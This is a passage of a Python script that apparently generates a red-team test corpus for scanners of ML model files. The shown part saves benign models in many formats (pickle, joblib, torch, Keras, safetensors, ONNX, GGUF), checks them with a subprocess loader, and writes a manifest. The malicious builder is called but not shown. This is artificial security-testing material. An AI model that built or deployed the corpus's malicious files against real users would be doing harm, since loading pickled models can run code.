    def fit(est: Any, Xa: Any = X, ya: Any = y) -> Any:
        return est.fit(Xa, ya) if ya is not None else est.fit(Xa)

    models: list[tuple[str, Callable[[], Any]]] = [
        ("logreg", lambda: fit(LogisticRegression())),
        ("random_forest", lambda: fit(RandomForestClassifier(n_estimators=5, random_state=0))),
        ("svc", lambda: fit(SVC(probability=False))),
        ("kmeans", lambda: fit(KMeans(n_clusters=2, n_init=2, random_state=0), ya=None)),
        ("standard_scaler", lambda: fit(StandardScaler(), ya=None)),
        ("onehot", lambda: OneHotEncoder(handle_unknown="ignore").fit(df[["cat"]])),
        ("pca", lambda: fit(PCA(n_components=2), ya=None)),
        ("gradient_boosting", lambda: fit(GradientBoostingClassifier(n_estimators=5, random_state=0))),
        ("knn", lambda: fit(KNeighborsClassifier(n_neighbors=3))),
        ("hist_gb", lambda: fit(HistGradientBoostingClassifier(max_iter=5, random_state=0))),
        ("tfidf_logreg", lambda: make_pipeline(TfidfVectorizer(), LogisticRegression()).fit(texts, ty)),
        ("label_encoder_str", lambda: LabelEncoder().fit(["billing", "account", "technical", "billing"])),
        ("function_log1p", lambda: FunctionTransformer(np.log1p).fit(np.abs(X))),
        ("column_transformer", lambda: make_pipeline(
            ColumnTransformer([("num", StandardScaler(), make_column_selector(dtype_include="number")),
                               ("cat", OneHotEncoder(), make_column_selector(dtype_include=object))]),
            LogisticRegression()).fit(df[["num", "cat"]], df["label"])),
        ("pipeline_scaler_svc", lambda: make_pipeline(StandardScaler(), SVC()).fit(X, y)),
    ]
    built = {n: f() for n, f in models}

    import skops.io as sio

    for n, m in built.items():
        c.add(B_, "skops", "skops", f"sk_{n}.skops", partial(lambda mm, v, p: sio.dump(mm, p), m),
              f"skops.io.dump of {type(m).__name__}", writes=True)
    for n in ["hist_gb", "tfidf_logreg", "label_encoder_str", "function_log1p", "column_transformer", "random_forest"]:
        c.add(B_, "sklearn-pickle", "pickle", f"pk_{n}.pkl", partial(lambda mm, v: pickle.dumps(mm, protocol=5), built[n]),
              f"pickle.dumps(protocol 5) of a fitted {type(built[n]).__name__}")
    for n, comp in [("label_encoder_str", 0), ("label_encoder_str", 3), ("hist_gb", 3), ("tfidf_logreg", 0),
                    ("column_transformer", ("lzma", 3)), ("random_forest", ("bz2", 3))]:
        tag = comp if isinstance(comp, int) else comp[0]
        c.add(B_, "sklearn-joblib", "joblib", f"jl_{n}_c{tag}.joblib",
              partial(lambda mm, cc, v, p: joblib.dump(mm, p, compress=cc), built[n], comp),
              f"joblib.dump(compress={comp!r}) of {type(built[n]).__name__}", writes=True)

    from sklearn.calibration import CalibratedClassifierCV

    cal = CalibratedClassifierCV(LogisticRegression(), cv=2).fit(X, y)
    c.add(B_, "sklearn-joblib", "joblib", "jl_calibrated_cv.joblib", lambda v, p: joblib.dump(cal, p),
          "joblib.dump of a fitted CalibratedClassifierCV", writes=True)
    c.add(B_, "sklearn-pickle", "pickle", "pk_logreg_proto2.pkl", lambda v: pickle.dumps(built["logreg"], protocol=2),
          "pickle protocol 2 (copyreg._reconstructor era) of LogisticRegression")
    c.add(B_, "sklearn-pickle", "pickle", "pk_scaler_proto0.pkl", lambda v: pickle.dumps(built["standard_scaler"], protocol=0),
          "pickle protocol 0 of StandardScaler")
    rich = pd.DataFrame({"ts": pd.date_range("2024-01-01", periods=3, tz="Europe/Berlin"),
                         "cat": pd.Categorical(["a", "b", "a"]), "s": pd.array(["x", None, "z"], dtype="string"),
                         "i": pd.array([1, None, 3], dtype="Int64"), "p": pd.period_range("2024-01", periods=3, freq="M"),
                         "td": pd.to_timedelta([1, 2, 3], unit="s")})
    c.add(B_, "pandas", "pickle", "df_rich_dtypes.pkl", lambda v, p: rich.to_pickle(p),
          "DataFrame.to_pickle with tz-aware datetimes, categorical, string, Int64, period, timedelta", writes=True)
    c.add(B_, "pandas", "joblib", "df_rich_dtypes.joblib", lambda v, p: joblib.dump(rich, p),
          "joblib.dump of the same DataFrame", writes=True)
    c.add(B_, "python-pickle", "pickle", "py_dict.pkl",
          lambda v: pickle.dumps({"vocab": {"a": 1, "b": 2}, "sizes": [1, 2.5, None], "name": "tok"}), "pickle of plain data")
    c.add(B_, "python-pickle", "pickle", "py_proto0.pkl", lambda v: pickle.dumps({"a": [1, 2], "b": "x"}, protocol=0),
          "protocol-0 pickle of plain data")
    c.add(B_, "pandas", "pickle", "df_to_pickle.pkl", lambda v, p: df.to_pickle(p), "DataFrame.to_pickle", writes=True)
    c.add(B_, "pandas", "gzip", "df_to_pickle.pkl.gz", lambda v, p: df.to_pickle(p), "DataFrame.to_pickle (gzip inferred)", writes=True)
    c.add(B_, "numpy", "numpy", "np_float.npy", lambda v, p: np.save(p, X), "np.save float64", writes=True)
    c.add(B_, "numpy", "numpy", "np_strings.npy", lambda v, p: np.save(p, np.array(["alpha", "béta", "gamma"])),
          "np.save <U strings", writes=True)
    c.add(B_, "numpy", "npz", "np_savez_compressed.npz",
          lambda v, p: np.savez_compressed(p, X=X, labels=np.array(["x", "yy"]), rec=np.zeros(2, dtype=[("a", "<i4"), ("b", "<f8")])),
          "np.savez_compressed numbers, strings, structured", writes=True)
    c.add(B_, "numpy", "numpy", "np_nested_struct.npy",
          lambda v, p: np.save(p, np.zeros(2, dtype=[("a", [("b", "<f4"), ("c", "<i2", (2,))]), ("d", "S3")])),
          "np.save of a nested structured dtype without objects", writes=True)
    c.add(B_, "numpy", "npz", "np_savez.npz", lambda v, p: np.savez(p, a=np.arange(10)), "np.savez", writes=True)

    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    c.add(B_, "pytorch", "pytorch-zip", "pt_state_dict.pt", lambda v, p: torch.save(net.state_dict(), p), "torch.save state_dict (zip)", writes=True)
    c.add(B_, "pytorch", "pytorch-legacy", "pt_state_dict_legacy.pth",
          lambda v, p: torch.save(net.state_dict(), p, _use_new_zipfile_serialization=False), "torch.save legacy stream", writes=True)
    opt = torch.optim.Adam(net.parameters())
    net(torch.zeros(1, 4)).sum().backward()
    opt.step()
    c.add(B_, "pytorch", "pytorch-zip", "pt_training_checkpoint.ckpt",
          lambda v, p: torch.save({"epoch": 3, "state_dict": net.state_dict(), "optimizer": opt.state_dict(), "hparams": {"lr": 1e-3}}, p),
          "torch.save training checkpoint (model + Adam state)", writes=True)
    c.add(B_, "pytorch", "pickle", "pt_tensor_pickled.pkl", lambda v: pickle.dumps({"emb": torch.randn(4, 2)}),
          "pickle.dumps of a dict holding a tensor (torch's own __reduce_ex__)")
    c.add(B_, "pytorch", "pickle", "pt_module_pickled.pkl", lambda v: pickle.dumps(net),
          "pickle.dumps of an nn.Sequential (whole-module pickling)")
    c.add(B_, "pytorch", "pytorch-zip", "pt_full_module.pt", lambda v, p: torch.save(net, p),
          "torch.save of a whole nn.Module (not a state dict)", writes=True)
    c.add(B_, "pytorch", "pytorch-zip", "pt_bf16_sparse.pt",
          lambda v, p: torch.save({"h": torch.randn(3, dtype=torch.bfloat16), "sp": torch.randn(3, 3).to_sparse()}, p),
          "torch.save of bfloat16 and sparse COO tensors", writes=True)
    c.add(B_, "pytorch", "torchscript", "ts_scripted.pt", lambda v, p: torch.jit.script(net).save(p), "torch.jit.script(...).save", writes=True)
    c.add(B_, "pytorch", "pytorch-zip", "pt_whole_tensor_dict.bin",
          lambda v, p: torch.save({"emb": torch.randn(5, 3), "ids": torch.arange(5)}, p), "torch.save tensors as pytorch_model.bin-style .bin", writes=True)

    def st(v: V, p: Path) -> None:
        from safetensors.torch import save_file

        save_file({k: t.contiguous() for k, t in net.state_dict().items()}, str(p), metadata={"format": "pt"})

    c.add(B_, "safetensors", "safetensors", "model.safetensors", st, "safetensors.torch.save_file", writes=True)

    import keras

    km = keras.Sequential([keras.Input((6,)), keras.layers.Dense(8, activation="relu"), keras.layers.Dropout(0.1),
                           keras.layers.Dense(3, activation="softmax")])
    km.compile(optimizer="adam", loss="sparse_categorical_crossentropy")
    kt = keras.Sequential([keras.Input((10,), dtype="int32"), keras.layers.Embedding(50, 8),
                           keras.layers.GlobalAveragePooling1D(), keras.layers.Dense(2, activation="softmax")])
    c.add(B_, "keras", "keras", "keras_dense.keras", lambda v, p: km.save(p), "Keras 3 .keras, Dense/Dropout", writes=True)
    c.add(B_, "keras", "keras", "keras_text.keras", lambda v, p: kt.save(p), "Keras 3 .keras, Embedding/Pooling", writes=True)
    kc = keras.Sequential([keras.Input((5,)), keras.layers.Dense(2)])
    kc.compile(loss="mse")  # default optimizer (rmsprop)
    c.add(B_, "keras", "keras", "keras_compiled_default.keras", lambda v, p: kc.save(p),
          "Keras 3 .keras of a model compiled with the default optimizer", writes=True)
    i1, i2 = keras.Input((3,)), keras.Input((2,))
    kf = keras.Model([i1, i2], keras.layers.Dense(1)(keras.layers.Concatenate()([i1, i2])))
    c.add(B_, "keras", "keras", "keras_functional.keras", lambda v, p: kf.save(p),
          "Keras 3 functional model with two inputs", writes=True)
    c.add(B_, "keras", "h5", "keras_dense.h5", lambda v, p: km.save(p), "Keras legacy .h5", writes=True)
    c.add(B_, "keras", "h5", "keras_dense.weights.h5", lambda v, p: km.save_weights(p), "Keras .weights.h5", writes=True)

    def tok(v: V, p: Path) -> None:
        from tokenizers import Tokenizer, models, pre_tokenizers, trainers
        from transformers import PreTrainedTokenizerFast

        t = Tokenizer(models.WordLevel(unk_token="[UNK]"))
        t.pre_tokenizer = pre_tokenizers.Whitespace()
        t.train_from_iterator(texts, trainers.WordLevelTrainer(special_tokens=["[UNK]", "[PAD]"]))
        PreTrainedTokenizerFast(tokenizer_object=t, unk_token="[UNK]", pad_token="[PAD]").save_pretrained(str(p))

    tokdir = c.dest / "benign" / "hf_tokenizer"
    try:
        tok(TWIN, tokdir)
    except ImportError as exc:
        c.skipped.append(f"benign/hf_tokenizer: {exc.name or exc}")
    for f in sorted(tokdir.iterdir()) if tokdir.exists() else []:
        c.entries.append(Entry(f"benign/hf_tokenizer/{f.name}", "benign", "hf-tokenizer", "json",
                               f"transformers save_pretrained: {f.name}"))
    c.add(B_, "onnx", "onnx", "model.onnx", lambda v: onnx_model(None),
          "hand-encoded ONNX Add model (onnx/torch exporter unavailable: package onnx not installed)")
    c.add(B_, "onnx", "onnx", "model_external.onnx",
          lambda v: (c.dest.joinpath("benign", "model_external.onnx.data").write_bytes(struct.pack("<4f", 1, 2, 3, 4)), onnx_model("model_external.onnx.data"))[1],
          "hand-encoded ONNX with a relative external data file beside it")
    c.entries.append(Entry("benign/model_external.onnx.data", "benign", "onnx", "raw", "external data of model_external.onnx"))
    llama3 = ("{% for m in messages %}{{ '<|start_header_id|>' + m['role'] + '<|end_header_id|>\\n\\n' + m['content'] | trim + '<|eot_id|>' }}"
              "{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}")
    c.add(B_, "gguf", "gguf", "tiny.gguf",
          lambda v: gguf_bytes([("general.architecture", 8, "llama"), ("general.name", 8, "tiny"), ("general.alignment", 4, 32),
                                ("tokenizer.chat_template", 8, llama3)]),
          "hand-written GGUF v3 to spec (no gguf writer installed), llama-3 style chat template")


# =========================================================================== twins
def verify_twins(c: Corpus) -> dict[str, Any]:
    """Load each benign twin in a subprocess with the victim's loader; record whether the call ran."""
    res: dict[str, Any] = {}
    env = dict(os.environ, KERAS_BACKEND="torch", PYTHONWARNINGS="ignore")
    for e in c.entries:
        if not e.twin_loader or not e.twin_name:
            continue
        p = str(c.dest / e.twin_name)
        code = f"P={p!r}\n" + e.twin_loader
        try:
            r = subprocess.run([sys.executable, "-c", code], check=False, capture_output=True, text=True,
                               timeout=120, env=env)
            ok = MARK_TWIN in r.stdout
            res[e.path] = {"reached": ok, "rc": r.returncode, "err": "" if ok else r.stderr.strip()[-200:]}
        except subprocess.TimeoutExpired:
            res[e.path] = {"reached": False, "rc": None, "err": "timeout"}
    return res


def main(argv: list[str]) -> int:
    args = [a for a in argv[1:] if not a.startswith("--")]
    if len(args) != 1:
        print("usage: gen_model_redteam.py DEST [--verify-twins]", file=sys.stderr)
        return 2
    dest = Path(args[0])
    (dest / "malicious").mkdir(parents=True, exist_ok=True)
    (dest / "benign").mkdir(parents=True, exist_ok=True)
    c = Corpus(dest, twins="--verify-twins" in argv)
    import warnings

    warnings.filterwarnings("ignore")
    build_malicious(c)
    build_benign(c)
    manifest = [
        {"path": e.path, "label": e.label, "class": e.cls, "format": e.fmt, "description": e.desc}
        for e in c.entries
    ]
    if c.twins:
        tw = verify_twins(c)
        for m in manifest:
            if m["path"] in tw:
                m["twin"] = tw[m["path"]]
    (dest / "manifest.json").write_text(json.dumps(manifest, indent=1))
    nm = sum(1 for e in c.entries if e.label == "malicious")
    print(f"wrote {nm} malicious, {len(c.entries) - nm} benign files to {dest}")
    for sk in c.skipped:
        print(f"skipped (package not installed): {sk}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
